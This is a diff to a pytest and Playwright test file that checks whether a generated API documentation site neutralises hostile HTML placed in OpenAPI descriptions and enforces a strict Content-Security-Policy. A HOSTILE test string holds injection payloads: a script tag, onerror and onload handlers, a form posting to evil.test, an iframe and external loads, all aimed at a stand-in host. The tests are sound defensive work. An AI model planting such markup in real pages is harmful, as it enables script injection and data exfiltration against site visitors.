@@ -7,7 +7,8 @@ from pathlib import Path
 from typing import Literal
 
 import pytest
-from playwright.sync_api import Browser, Page, sync_playwright
+import yaml
+from playwright.sync_api import Browser, Page, Route, sync_playwright
 
 from scripts.docs.__main__ import make
 from scripts.docs.link_checker import faults
@@ -53,8 +54,108 @@ def page(browser: Browser) -> Iterator[Page]:
     assert seen == []
 
 
+def copy_project(root: Path) -> None:
+    """Copy what the site is made of."""
+    for name in ("benchmarks", "docs", "generated", "languages", "scripts", "tests/conformance"):
+        shutil.copytree(ROOT / name, root / name, ignore=shutil.ignore_patterns("__pycache__", ".*_cache"))
+    for name in ("openapi.yaml", "LICENSE", "README.md", "CONTRIBUTING.md", "CHANGELOG.md", "UPGRADING.md"):
+        shutil.copy(ROOT / name, root / name)
+
+
 def _is_elsewhere(url: str) -> bool:
     return not url.startswith(("file:", "data:", "blob:"))
+
+
+HOSTILE = """
+<style>body { display: none !important } * { background: url(https://evil.test/style.png) }</style>
+<style>
+nav { visibility: hidden }
+</style>
+
+<form action="https://evil.test/posted" method="post"><button id="planted">Sign in</button></form>
+<img src="https://evil.test/image.png" onerror="document.title = 'evil'"> ![x](https://evil.test/markdown.png)
+<script>document.title = "evil"</script> <iframe src="https://evil.test/frame.html"></iframe>
+<link rel="stylesheet" href="https://evil.test/link.css"> <svg onload="document.title = 'evil'"></svg>
+"""
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The site of a document that says what would act on a page, wherever it says anything."""
+    root, site = tmp_path_factory.mktemp("hostile") / "root", tmp_path_factory.mktemp("hostile") / "site"
+    copy_project(root)
+    document = yaml.safe_load((ROOT / "openapi.yaml").read_text("utf-8"))
+    document["info"]["description"] = document["tags"][0]["description"] = HOSTILE
+    for item in document["paths"].values():
+        for operation in item.values():
+            operation["description"] = HOSTILE
+            operation["responses"]["default"] = {"description": HOSTILE}
+    document["components"]["schemas"]["Call"]["properties"]["id"]["description"] = HOSTILE
+    (root / "openapi.yaml").write_text(yaml.safe_dump(document, sort_keys=False), "utf-8")
+    assert make(site, root) == []
+    return site
+
+
+@pytest.fixture
+def watched(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
+    """A window, and what of others it goes on to ask for: it tells of requests, too, that its policy stops."""
+    asked: list[str] = []
+
+    def answer(route: Route) -> None:
+        asked.append(route.request.url)
+        route.fulfill(body="")
+
+    with browser.new_context() as context:
+        context.set_default_timeout(scaled(30_000))
+        context.route(_is_elsewhere, answer)
+        yield context.new_page(), asked
+
+
+def test_f4_8_a_hostile_document_does_nothing_on_the_reference(hostile: Path, watched: tuple[Page, list[str]]) -> None:
+    page, asked = watched
+    page.goto((hostile / "docs/api.html").as_uri())
+    page.wait_for_function("document.documentElement.dataset.ready === 'yes'")
+    assert "Sign in" in page.locator("#redoc").inner_text()
+    assert page.locator("#redoc").is_visible()
+    assert page.locator("nav.back").is_visible()
+    assert "evil" not in page.title()
+    for element in ("form", "style", "iframe", "script", "link", "svg[onload]", "#planted"):
+        assert page.locator(f"#redoc {element}:not([data-styled])").count() == 0, element
+    assert asked == []
+
+
+def test_f4_8_no_page_of_the_site_posts_or_loads_anything(hostile: Path, watched: tuple[Page, list[str]]) -> None:
+    """What a text might yet bring onto a page is stopped by the policy that the page has."""
+    page, asked = watched
+    pages = sorted({*hostile.rglob("*.html")} - {hostile / "index.html"})
+    assert len(pages) >= 10
+    for path in pages:
+        page.goto(path.as_uri())
+        page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", HOSTILE)
+        page.evaluate(
+            """() => {
+                const script = document.createElement("script");
+                script.textContent = "document.title = 'evil'";
+                document.body.append(script);
+                document.querySelector("form[action*=evil]").submit();
+            }"""
+        )
+        page.wait_for_timeout(50)
+        assert page.url == path.as_uri()
+        assert "evil" not in page.title()
+        assert asked == [], path
+
+
+def test_f4_8_every_page_has_the_policy_of_the_report(site: Path) -> None:
+    pages = [path.read_text("utf-8") for path in site.rglob("*.html")]
+    for text in pages:
+        (policy,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
+        rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
+        assert (rules["default-src"], rules["form-action"], rules["base-uri"]) == ("'none'", "'none'", "'none'")
+        assert rules["img-src"] == "'self' data:"
+        assert "unsafe" not in rules["script-src"]
+        before = text[: text.index("Content-Security-Policy")]
+        assert not re.search("<(script|link|style|img)", before)
 
 
 @pytest.mark.parametrize("view", VIEWS)
@@ -158,10 +259,7 @@ def test_a_style_that_loads_from_elsewhere_is_noticed(tmp_path: Path) -> None:
 
 def test_a_page_that_is_wrong_leaves_the_site_as_it_was(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
     root, site = tmp_path / "root", tmp_path / "site"
-    for name in ("docs", "generated", "languages", "scripts", "tests/conformance"):
-        shutil.copytree(ROOT / name, root / name, ignore=shutil.ignore_patterns("__pycache__", ".*_cache"))
-    for name in ("openapi.yaml", "LICENSE", "README.md", "CONTRIBUTING.md", "CHANGELOG.md", "UPGRADING.md"):
-        shutil.copy(ROOT / name, root / name)
+    copy_project(root)
     with (root / "docs/reliability.md").open("a", encoding="utf-8") as planted:
         planted.write("\n[A](gone.md) [b](../README.md#gone)\n")
     site.mkdir()
